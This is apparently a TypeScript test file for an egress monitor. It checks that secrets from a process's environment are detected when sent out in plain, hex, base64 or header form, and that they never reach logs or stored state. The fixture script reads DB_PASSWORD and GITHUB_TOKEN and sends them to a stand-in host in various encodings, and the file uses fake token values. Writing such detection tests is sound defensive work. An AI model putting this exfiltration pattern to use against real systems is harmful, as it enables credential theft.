import assert from 'node:assert/strict';
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import type { LogLine } from '../../src/model/admin.ts';
import { node, openPlace, type RunPlace, type SimpleOrigin, simpleOrigin } from '../support/runs.ts';
import { eventually } from '../support/weir.ts';

/** Of no form that a built-in pattern knows. */
const SECRET = ['q7Zp', '2Mw8', 'Xk4T', 'n9Vb', 'c3Hd'].join('');
/** Of a form with a home. */
const KNOWN = ['ghp', 'aR7xK2mQ9vT4wZ8bN3cJ6fH1dL5gY0sEpU2i'].join('_');

let place: RunPlace;
let plain: SimpleOrigin;

before(async () => {
  plain = await simpleOrigin();
  place = await openPlace({ upstream: { resolve: { '*.test': `127.0.0.1:${plain.port}` } } });
});

after(async () => {
  await place.close();
  await plain.close();
});

async function linesOf(agent: string, until: number): Promise<LogLine[]> {
  let lines: LogLine[] = [];
  await eventually(async () => {
    lines = ((await place.admin(`/logs?limit=500&agent=${agent}`)) as LogLine[]).filter(
      (line) => line.kind === 'exchange',
    );
    return lines.length >= until;
  }, `${until} exchanges of ${agent}`);
  return lines;
}

/** Every file of a directory as one text. */
function everything(directory: string): string {
  return readdirSync(directory, { recursive: true })
    .map((name) => join(directory, String(name)))
    .filter((file) => statSync(file).isFile())
    .map((file) => readFileSync(file, 'latin1'))
    .join('\n');
}

test('secrets in the environment of a command are found on their way out in every encoding, and are recorded nowhere', async () => {
  const script = `
    const s = process.env.DB_PASSWORD;
    const b = Buffer.from('x' + s).toString('base64');
    const ask = (path, init) => fetch('http://a.test' + path, init).then((r) => r.text());
    await ask('/path-' + s);
    await ask('/query?password=' + encodeURIComponent(s));
    await ask('/hex/' + Buffer.from(s).toString('hex'));
    await ask('/body', { method: 'POST', body: 'data=' + b });
    await ask('/head', { headers: { authorization: 'Bearer ' + s } });
    await ask('/known', { method: 'POST', body: process.env.GITHUB_TOKEN });
    await ask('/clean');
    process.exit(0);
  `;
  const run = place.run(node(script), {
    env: { DB_PASSWORD: SECRET, GITHUB_TOKEN: KNOWN },
    flags: ['--agent', 'leaky'],
  });
  const { code, stderr } = await run.ended;
  assert.equal(code, 0, stderr);
  assert.match(stderr, /env-secret-db-password/);
  assert.ok(!stderr.includes(SECRET), stderr);
  const lines = await linesOf('leaky', 7);
  assert.ok(!JSON.stringify(lines).includes(SECRET));
  const rulesAt = (path: string): readonly string[] =>
    lines.find((line) => line.path?.startsWith(path) === true)?.rules ?? ['no such line'];
  for (const path of ['/path-', '/query', '/hex', '/body'])
    assert.ok(rulesAt(path).includes('env-secret-db-password'), `${path}: ${JSON.stringify(lines)}`);
  // What is in a field made for credentials goes where it belongs; what a pattern knows keeps its rule.
  assert.ok(!rulesAt('/head').includes('env-secret-db-password'));
  assert.ok(rulesAt('/known').includes('github-pat'));
  assert.ok(!rulesAt('/clean').some((rule) => rule.startsWith('env-secret')));
  await place.left();
  const kept = everything(place.stateDir);
  for (const form of [SECRET, Buffer.from(SECRET).toString('hex'), Buffer.from(SECRET).toString('base64').slice(0, 24)])
    assert.ok(!kept.includes(form), 'a file of the state directory holds it');
});

test('what is secret to one run is an ordinary word to another', async () => {
  const script = `await fetch('http://b.test/word-${SECRET}').then((r) => r.text()); process.exit(0);`;
  const holder = place.run(node('console.log("up"); setInterval(() => {}, 1000)'), {
    env: { DB_PASSWORD: SECRET },
    flags: ['--agent', 'holder'],
  });
  await eventually(() => holder.stdout().includes('up'), 'the holder is up', 30_000);
  await place.run(node(script), { env: { DB_PASSWORD: '' }, flags: ['--agent', 'other'] }).ended;
  const [line] = await linesOf('other', 1);
  assert.deepEqual(
    line?.rules.filter((rule) => rule.startsWith('env-secret')),
    [],
  );
  holder.kill('SIGTERM');
  await holder.ended;
});
